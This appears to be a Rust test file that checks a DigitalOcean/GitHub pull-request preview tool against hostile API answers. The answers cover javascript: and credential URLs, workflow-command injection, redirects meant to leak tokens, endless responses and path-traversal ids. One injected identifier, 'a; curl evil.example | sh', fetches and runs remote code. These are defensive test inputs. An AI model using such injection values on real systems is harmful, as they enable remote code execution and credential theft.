//! An API, or what answers in its place, that means harm: what it says is checked before it is passed on.

use std::future::IntoFuture;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use axum::body::Body;
use axum::response::Response;

use crate::harness::{Answer, Proxy, Tester, run};

/// Every answer with `from` replaced by `to`.
fn replaced(from: String, to: &'static str) -> Answer {
    Answer::Changed(Box::new(move |text| text.replace(&from, to)))
}

#[tokio::test]
async fn an_address_of_another_form_reaches_no_output_and_no_link() {
    holds!("a vendor", ["lie in a comment"]);
    for evil in [
        "javascript:alert(document.domain)//",
        "https://shop.example\\n::set-output name=status::ready",
        "https://me:secret@shop.example",
    ] {
        run(async |t: &mut Tester| {
            t.open_pr(7).await;
            t.preview(7).await.succeeds();
            let base = t.sandbox.url("DIGITALOCEAN_API_URL");
            let url = t.app("shop-pr-7").await["live_url"].as_str().unwrap().to_owned();
            let between = Proxy::start(&base, move |_, _| replaced(url.clone(), evil)).await;
            let status = t
                .command(["status", "--pr", "7"])
                .env("DIGITALOCEAN_API_URL", &between.url())
                .await;
            assert_eq!(status.output("url"), "", "{status}");
            assert_eq!(status.stdout.matches("::set-output").count(), 0);
            status.does_not_say("javascript:").does_not_say("secret@");
            status.says(
                "::warning::The platform gives `shop-pr-7` an address that is not a URL of the web: it is shown nowhere",
            );
            t.push(7, "second");
            let preview = t.preview(7).env("DIGITALOCEAN_API_URL", &between.url()).await;
            preview.says("::warning::").says("not a URL of the web");
            assert_eq!((preview.output("url"), preview.output("status")), (String::new(), "unknown".to_owned()));
            assert!(preview.comment(7).contains("not a URL of the web"), "{preview}");
            preview.does_not_say("javascript:").does_not_say("secret@");
            let verify = t.command(["verify", "--pr", "7"]).env("DIGITALOCEAN_API_URL", &between.url()).await;
            verify.fails_with(3).says("`shop-pr-7` cannot be asked: The platform gives");
        })
        .await;
    }
}

#[tokio::test]
async fn the_comments_address_is_githubs_or_none() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.open_pr(7).await;
        let between = Proxy::start(&t.sandbox.url("GITHUB_API_URL"), |_, path| {
            if path.contains("/comments") {
                return Answer::Changed(Box::new(|text| {
                    text.replace("\"html_url\":\"http", "\"html_url\":\"javascript:http")
                }));
            }
            Answer::Changed(Box::new(|text| text))
        })
        .await;
        let preview = t.preview(7).env("GITHUB_API_URL", &between.url()).await;
        preview.succeeds();
        assert_eq!(preview.output("comment-url"), "", "{preview}");
    })
    .await;
}

#[tokio::test]
async fn an_answer_whose_identifier_is_more_than_one_word_is_not_believed() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.open_pr(7).await;
        t.preview(7).await.succeeds();
        let id = t.app("shop-pr-7").await["id"].as_str().unwrap().to_owned();
        let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
            replaced(format!("\"{id}\""), "\"a; curl evil.example | sh\"")
        })
        .await;
        let status = t
            .command(["status", "--pr", "7"])
            .env("DIGITALOCEAN_API_URL", &between.url())
            .await;
        status.fails_with(3).does_not_say("evil.example");
    })
    .await;
}

fn redirect(status: u16, to: &str) -> Answer {
    let answer = Response::builder().status(status).header("location", to);
    Answer::Instead(answer.body(Body::empty()).unwrap())
}

#[tokio::test]
async fn digitalocean_sends_no_request_to_another_host_and_no_answer_from_there_is_believed() {
    holds!("a vendor", ["use a token"]);
    run(async |t: &mut Tester| {
        let thief = Proxy::start("http://127.0.0.1:1", |_, _| {
            unreachable!("the token and the spec went elsewhere")
        })
        .await;
        t.deploy().await.succeeds();
        t.push("main", "second");
        let spec = t.app("shop").await["spec"].clone();
        for method in ["GET", "PUT"] {
            let elsewhere = thief.url();
            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| match asked {
                _ if asked == method => redirect(307, &format!("{elsewhere}{path}")),
                _ => Answer::Changed(Box::new(|text| text)),
            })
            .await;
            let deploy = t.deploy().env("DIGITALOCEAN_API_URL", &between.url()).await;
            deploy
                .fails_with(3)
                .says("307, but a redirect to `127.0.0.1` instead of JSON");
        }
        assert_eq!(t.app("shop").await["spec"], spec);
    })
    .await;
}

#[tokio::test]
async fn github_may_redirect_within_its_host_and_nowhere_else() {
    holds!("a vendor", ["use a token"]);
    run(async |t: &mut Tester| {
        let base = t.sandbox.url("GITHUB_API_URL");
        // Every request is sent to the same place once more, as a renamed repository's is to another of the host.
        let redirected = AtomicBool::new(false);
        let renamed = Proxy::start(&base, move |method, path| {
            if redirected.fetch_xor(true, Ordering::Relaxed) {
                return Answer::Changed(Box::new(|text| text));
            }
            redirect(if method == "GET" { 301 } else { 307 }, path)
        })
        .await;
        t.deploy().env("GITHUB_API_URL", &renamed.url()).await.succeeds();

        let elsewhere = Proxy::start(&base, |_, path| redirect(302, &format!("http://localhost:1{path}"))).await;
        let refused = t.deploy().env("GITHUB_API_URL", &elsewhere.url()).await;
        refused.says("302, but a redirect to `localhost` instead of JSON");
    })
    .await;
}

#[tokio::test]
async fn an_answer_without_an_end_ends_the_request_and_not_the_runner() {
    holds!("a vendor", ["slow down"]);
    run(async |t: &mut Tester| {
        let endless = |_: &str, _: &str| {
            let piece = vec![b' '; 1 << 20];
            let pieces = futures_util::stream::repeat_with(move || Ok::<_, std::io::Error>(piece.clone()));
            Answer::Instead(Response::new(Body::from_stream(pieces)))
        };
        for variable in ["DIGITALOCEAN_API_URL", "GITHUB_API_URL"] {
            let between = Proxy::start(&t.sandbox.url(variable), endless).await;
            let deploy = t.deploy().env(variable, &between.url()).await;
            deploy.says("200, but more than 32 MiB instead of JSON");
            assert_ne!(deploy.exit_code(), Some(0), "{deploy}");
        }
        assert_eq!(t.app_names().await, Vec::<String>::new());
    })
    .await;
}

/// One byte after the other, for ever: each keeps the connection alive.
#[tokio::test]
async fn an_answer_that_comes_in_drops_does_not_outlast_the_runs_time() {
    holds!("a vendor", ["slow down"]);
    run(async |t: &mut Tester| {
        let drops = |asked: Arc<AtomicUsize>| {
            move |_: &str, _: &str| {
                asked.fetch_add(1, Ordering::Relaxed);
                let pace = tokio::time::interval(Duration::from_millis(300));
                let drops = futures_util::stream::unfold(pace, async |mut pace| {
                    pace.tick().await;
                    Some((Ok::<_, std::io::Error>(" "), pace))
                });
                Answer::Instead(Response::new(Body::from_stream(drops)))
            }
        };
        let dripping = async |variable: &str| {
            let asked = Arc::new(AtomicUsize::new(0));
            let between = Proxy::start(&t.sandbox.url(variable), drops(asked.clone())).await;
            let deploy = t.deploy().args(["--timeout", "1s"]).env(variable, &between.url());
            let ended = tokio::time::timeout(Duration::from_secs(45), deploy.into_future()).await;
            let ended = ended.unwrap_or_else(|_| panic!("it goes on after 45 s, with {asked:?} requests"));
            ended.fails_with(3).says("no answer in time");
            assert_eq!(asked.load(Ordering::Relaxed), 1, "{ended}");
        };
        tokio::join!(dripping("DIGITALOCEAN_API_URL"), dripping("GITHUB_API_URL"));
    })
    .await;
}

#[tokio::test]
async fn a_preview_that_is_dated_in_the_future_is_not_removed_for_its_age() {
    run(async |t: &mut Tester| {
        t.open_pr(1).await;
        t.preview(1).await.succeeds();
        let comment = t.comments(1).await[0]["id"].clone();
        let path = format!("/repos/org/shop/issues/comments/{comment}");
        t.github("DELETE", &path, None).await.expect(204);
        let later = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), |_, _| {
            Answer::Changed(Box::new(|text| {
                text.replace(
                    "\"last_deployment_created_at\":\"20",
                    "\"last_deployment_created_at\":\"21",
                )
            }))
        })
        .await;
        let swept = t.command(["sweep"]).env("DIGITALOCEAN_API_URL", &later.url()).await;
        swept.succeeds().does_not_say("longer than `ttl`");
        t.expect_serving("shop-pr-1", "first").await;
    })
    .await;
}

/// The answer to the first of all questions says whose previews there are and which of them are ours.
#[tokio::test]
async fn an_answer_about_another_repository_is_not_believed_unless_a_redirect_led_to_it() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.open_pr(1).await;
        t.preview(1).await.succeeds();
        let base = t.sandbox.url("GITHUB_API_URL");
        let named =
            |text: String, name: &str| text.replace("\"full_name\":\"org/shop\"", &format!("\"full_name\":\"{name}\""));
        let other = Proxy::start(&base, move |_, path| {
            let is_it = path == "/repos/org/shop";
            Answer::Changed(Box::new(
                move |text| if is_it { named(text, "org/other") } else { text },
            ))
        })
        .await;
        for command in [t.teardown(1), t.preview(1), t.command(["sweep"]), t.command(["status"])] {
            let refused = command.env("GITHUB_API_URL", &other.url()).await;
            refused
                .fails_with(3)
                .touches_nothing()
                .says("200, but JSON about another repository instead of JSON");
        }
        let spelt = Proxy::start(&base, move |_, _| {
            Answer::Changed(Box::new(move |text| named(text, "Org/Shop")))
        })
        .await;
        t.command(["status"])
            .env("GITHUB_API_URL", &spelt.url())
            .await
            .succeeds();
        // As after a rename: <https://docs.github.com/rest/using-the-rest-api/best-practices-for-using-the-rest-api>
        let redirected = AtomicBool::new(false);
        let renamed = Proxy::start(&base, move |_, path| {
            if path == "/repos/org/shop" && !redirected.fetch_xor(true, Ordering::Relaxed) {
                return redirect(301, path);
            }
            Answer::Changed(Box::new(move |text| named(text, "org/other")))
        })
        .await;
        t.command(["status"])
            .env("GITHUB_API_URL", &renamed.url())
            .await
            .succeeds()
            .says("pr-1");
    })
    .await;
}

/// An id goes into the path of a request, from which `..` would lead away.
#[tokio::test]
async fn an_app_whose_id_leads_out_of_its_path_is_not_removed_and_not_said_to_be_gone() {
    run(async |t: &mut Tester| {
        t.open_pr(1).await;
        t.preview(1).await.succeeds();
        let id = t.app("shop-pr-1").await["id"].as_str().unwrap().to_owned();
        for evil in ["..", "."] {
            let own = id.clone();
            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
                let own = own.clone();
                Answer::Changed(Box::new(move |text| {
                    text.replace(&format!("\"id\":\"{own}\""), &format!("\"id\":\"{evil}\""))
                }))
            })
            .await;
            let kept = t.teardown(1).env("DIGITALOCEAN_API_URL", &between.url()).await;
            assert!(
                !kept.changes().iter().any(|call| call.starts_with("DELETE")),
                "{evil}: {kept}"
            );
            assert!(!kept.shown().contains("is gone"), "{evil}: {kept}");
        }
        t.expect_serving("shop-pr-1", "first").await;
    })
    .await;
}

/// A server that sees the request would have the token.
#[tokio::test]
async fn a_token_for_this_machine_goes_through_no_proxy() {
    holds!("a vendor", ["use a token"]);
    run(async |t: &mut Tester| {
        let thief = Proxy::start("http://127.0.0.1:1", |_, _| unreachable!("the token went elsewhere")).await;
        t.deploy().await.succeeds();
        let in_front =
            async |key: &str| Proxy::start(&t.sandbox.url(key), |_, _| Answer::Changed(Box::new(|text| text))).await;
        let cloud = in_front("DIGITALOCEAN_API_URL").await;
        let github = in_front("GITHUB_API_URL").await;
        for host in ["127.0.0.1", "localhost", "api.localhost", "localhost."] {
            let api = |between: &Proxy| between.url().replace("127.0.0.1", host);
            let mut status = t.command(["status"]);
            for proxy in ["HTTP_PROXY", "http_proxy", "ALL_PROXY"] {
                status = status.env(proxy, &thief.url());
            }
            let status = status
                .env("DIGITALOCEAN_API_URL", &api(&cloud))
                .env("GITHUB_API_URL", &api(&github))
                .await;
            status.succeeds();
        }
    })
    .await;
}

/// As from a cache, or a proxy that mixes answers up.
#[tokio::test]
async fn a_reply_about_another_app_is_a_reply_that_was_lost() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.deploy().await.succeeds();
        t.open_pr(7).await;
        let production = t.app("shop").await;
        for method in ["POST", "PUT"] {
            let app = production.clone();
            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| {
                let app = app.clone();
                let is_it = asked == method && path.starts_with("/v2/apps") && !path.ends_with("/propose");
                Answer::Changed(Box::new(move |text| match is_it {
                    true => serde_json::json!({ "app": app }).to_string(),
                    false => text,
                }))
            })
            .await;
            let preview = t.preview(7).env("DIGITALOCEAN_API_URL", &between.url()).await;
            let own = t.app("shop-pr-7").await["live_url"].as_str().unwrap().to_owned();
            preview.succeeds();
            assert_eq!(preview.output("url"), own, "{preview}");
            t.push("pr-7", "second");
        }
    })
    .await;
}

#[tokio::test]
async fn a_listing_without_an_end_ends_the_request_and_not_the_runner() {
    holds!("a vendor", ["slow down"]);
    run(async |t: &mut Tester| {
        let page = || {
            let page = r#"{"apps":[{"id":"a1"}],"links":{"pages":{"next":"x"}}"#;
            let blanks = " ".repeat(24 << 20);
            Answer::Instead(Response::new(Body::from(format!("{page}{blanks}}}"))))
        };
        let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| page()).await;
        let status = t.command(["status"]).env("DIGITALOCEAN_API_URL", &between.url()).await;
        status.fails_with(3).says("200, but more than 64 MiB instead of JSON");
    })
    .await;
}

#[tokio::test]
async fn nothing_is_removed_by_an_answer_about_another_pull_request() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.open_pr(1).await;
        t.open_pr(2).await;
        t.preview(1).await.succeeds();
        t.close_pr(2).await;
        let other = t.github("GET", "/repos/org/shop/pulls/2", None).await.expect(200);
        let between = Proxy::start(&t.sandbox.url("GITHUB_API_URL"), move |_, path| {
            let (is_it, other) = (path.ends_with("/pulls/1"), other.to_string());
            Answer::Changed(Box::new(move |text| if is_it { other.clone() } else { text }))
        })
        .await;
        let swept = t.command(["sweep"]).env("GITHUB_API_URL", &between.url()).await;
        swept.fails_with(3).says("JSON about another pull request");
        t.expect_serving("shop-pr-1", "first").await;
    })
    .await;
}

#[tokio::test]
async fn an_app_that_a_listing_counts_and_does_not_show_is_not_said_to_be_gone() {
    holds!("a vendor", ["lie in a comment"]);
    run(async |t: &mut Tester| {
        t.open_pr(1).await;
        t.preview(1).await.succeeds();
        for listed in [
            "{}",
            r#"{"meta":{"total":1}}"#,
            r#"{"apps":[],"links":{},"meta":{"total":1}}"#,
        ] {
            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, path| {
                match path.starts_with("/v2/apps?") {
                    true => Answer::Instead(Response::new(Body::from(listed))),
                    false => Answer::Changed(Box::new(|text| text)),
                }
            })
            .await;
            let kept = t.teardown(1).env("DIGITALOCEAN_API_URL", &between.url()).await;
            kept.fails_with(3)
                .does_not_say("is removed")
                .does_not_say("nothing to remove");
        }
        t.expect_serving("shop-pr-1", "first").await;
    })
    .await;
}
